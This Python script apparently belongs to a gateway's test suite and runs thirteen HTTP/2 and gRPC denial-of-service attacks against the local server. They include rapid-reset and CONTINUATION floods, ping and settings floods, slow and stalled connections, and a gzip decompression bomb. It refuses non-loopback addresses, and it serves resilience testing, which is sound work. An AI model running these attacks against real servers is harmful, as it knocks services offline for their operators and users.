#!/usr/bin/env python3
"""Attacks on a gRPC port, one per process:

    tests/edge/attacks/attacks.py ATTACK HOST:PORT [--scale N] [--ca FILE]

Prints one JSON object when the attack stands at its height, holds what it has until its input ends, and tells then, in a
second object, how many of its connections are still open. To be used against one's own gateway only: other addresses
than those of this computer are refused.
"""

import argparse
import ipaddress
import json
import resource
import ssl
import struct
import sys
import zlib

from http2 import (ACK, CANCEL, CONTINUATION, DATA, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING, PRIORITY, RST_STREAM,
                   SETTINGS, Connection, Target, call_headers, field, frame, header_frames, message)

HEALTH = "grpc.health.v1.Health/"
METHOD = "relais.jobqueue.v1.JobQueueService/ListQueues"
MIB = 1 << 20


def flood(target, count, piece, before=None, at_once=100):
    """Sends `count` times what piece(connection) gives, over as many connections as the peer makes necessary, each
    begun by before(connection). Gives up when a connection takes none."""
    sent, connections, held = 0, 0, []
    while sent < count:
        connection, taken = Connection(target), 0
        connections += 1
        held.append(connection)
        try:
            if before:
                before(connection)
            while sent < count:
                connection.send(b"".join(piece(connection) for _ in range(at_once)))
                sent, taken = sent + at_once, taken + at_once
                if not connection.drain():
                    break
        except OSError:
            pass
        if taken == 0:
            break
    return held, {"sent": sent, "connections": connections}


def large_header(target, scale):
    """4 MiB of one header, per scale."""
    held = [Connection(target)]
    block = call_headers(METHOD, ("x-attack", "x" * (4 * MIB * scale)))
    try:
        held[0].send(header_frames(1, block, end_stream=True))
    except OSError:
        pass
    return held, {}


def rapid_reset(target, scale):
    """20 000 calls, per scale, each cancelled at once."""
    headers = call_headers(METHOD)

    def piece(connection):
        stream = connection.new_stream()
        return header_frames(stream, headers) + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
    return flood(target, 20_000 * scale, piece)


def pings(target, scale):
    return flood(target, 50_000 * scale, lambda _: frame(PING, 0, 0, b"relais!!"), at_once=500)


def settings(target, scale):
    return flood(target, 50_000 * scale, lambda _: frame(SETTINGS, 0, 0), at_once=500)


def priorities(target, scale):
    return flood(target, 50_000 * scale, lambda each: frame(PRIORITY, 0, each.new_stream(), b"\0\0\0\0\x10"), at_once=500)


def empty_data(target, scale):
    """Frames of a body that say nothing."""
    def begin(connection):
        connection.send(header_frames(connection.new_stream(), call_headers(METHOD)))
    return flood(target, 50_000 * scale, lambda _: frame(DATA, 0, 1), begin, at_once=500)


def continuations(target, scale):
    """A header without an end, in frames of one small field each."""
    def begin(connection):
        connection.send(frame(HEADERS, 0, connection.new_stream(), call_headers(METHOD)))
    piece = frame(CONTINUATION, 0, 1, field("x", "y"))
    return flood(target, 50_000 * scale, lambda _: piece, begin, at_once=500)


def many(target, count, open_one):
    """Opens `count` connections; those that are refused count."""
    held, refused = [], 0
    for _ in range(count):
        try:
            held.append(open_one(target))
        except OSError:
            refused += 1
    return held, {"connections": count, "refused": refused}


def idle_connections(target, scale):
    """2000 connections, per scale: every other one has not even said that it speaks HTTP/2."""
    silent = iter(range(1 << 30))
    return many(target, 2000 * scale, lambda to: Connection(to, greet=next(silent) % 2 == 0))


def half_sent_headers(target, scale):
    def open_one(to):
        connection = Connection(to)
        connection.send(frame(HEADERS, 0, 1, call_headers(METHOD)))
        return connection
    return many(target, 500 * scale, open_one)


def bodies_that_never_come(target, scale):
    """50 connections, per scale, with 100 calls each whose message is announced and does not come."""
    def open_one(to):
        connection = Connection(to)
        for _ in range(100):
            stream = connection.new_stream()
            connection.send(header_frames(stream, call_headers(METHOD)) + frame(DATA, 0, stream, b"\0\0\x10\0\0"))
        return connection
    return many(target, 50 * scale, open_one)


def replies_that_nobody_takes(target, scale):
    """50 connections, per scale, with 100 calls each for whose replies there is no room."""
    def open_one(to):
        connection = Connection(to, settings=struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
        for _ in range(100):
            stream = connection.new_stream()
            connection.send(header_frames(stream, call_headers(METHOD)) + frame(DATA, END_STREAM, stream, message()))
        return connection
    return many(target, 50 * scale, open_one)


def compressed_bomb(target, scale):
    """A message of some 300 KB that inflates to 300 MB, per scale."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    packed = b"".join([packer.compress(bytes(MIB)) for _ in range(300 * scale)] + [packer.flush()])
    connection = Connection(target)
    stream = connection.new_stream()
    connection.send(header_frames(stream, call_headers(METHOD, ("grpc-encoding", "gzip"))))
    try:
        refused = not (connection.send_body(stream, message(packed, compressed=True)) and
                       connection.await_reply(stream))
    except OSError:
        refused = True
    return [connection], {"refused": refused}


def oversized_header_beside_a_watch(target, scale):
    """A header of 17 000 bytes on the connection of a watch, which should go on."""
    connection = Connection(target)
    connection.send(header_frames(connection.new_stream(), call_headers(HEALTH + "Watch")) +
                    frame(DATA, END_STREAM, 1, message()))
    while (got := connection.read_frame()) and got[0] != DATA:
        if got[0] == SETTINGS and not got[1] & ACK:
            connection.send(frame(SETTINGS, ACK, 0))
    began = got is not None
    for _ in range(scale):
        stream = connection.new_stream()
        connection.send(header_frames(stream, call_headers(METHOD, ("x-note", "x" * 17_000))) +
                        frame(DATA, END_STREAM, stream, message()))
    goes_on = False
    try:
        goes_on = connection.call(METHOD)
    except OSError:
        pass
    return [connection], {"watch_began": began, "goes_on": goes_on}


ATTACKS = {each.__name__: each for each in (
    large_header, rapid_reset, continuations, half_sent_headers, bodies_that_never_come, replies_that_nobody_takes,
    idle_connections, compressed_bomb, pings, settings, priorities, empty_data, oversized_header_beside_a_watch)}


def is_open(connection):
    """Whether the peer has left the connection open."""
    return connection.drain()


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("address")
    parser.add_argument("--scale", type=int, default=1)
    parser.add_argument("--ca", help="PEM file: TLS, with the server's certificate checked against it")
    parser.add_argument("--cert", help="PEM file: the attacker's own certificate and its key")
    args = parser.parse_args()
    if not ipaddress.ip_address(args.address.rsplit(":", 1)[0].strip("[]")).is_loopback:
        sys.exit("attacks.py: only addresses of this computer")
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    context = ssl.create_default_context(cafile=args.ca) if args.ca else None
    if args.cert:
        context.load_cert_chain(args.cert)
    held, told = ATTACKS[args.attack](Target(args.address, context), args.scale)
    usage = resource.getrusage(resource.RUSAGE_SELF)
    print(json.dumps({**told, "cpu": round(usage.ru_utime + usage.ru_stime, 3)}), flush=True)
    sys.stdin.read()
    print(json.dumps({"open": sum(map(is_open, held))}), flush=True)


if __name__ == "__main__":
    main()
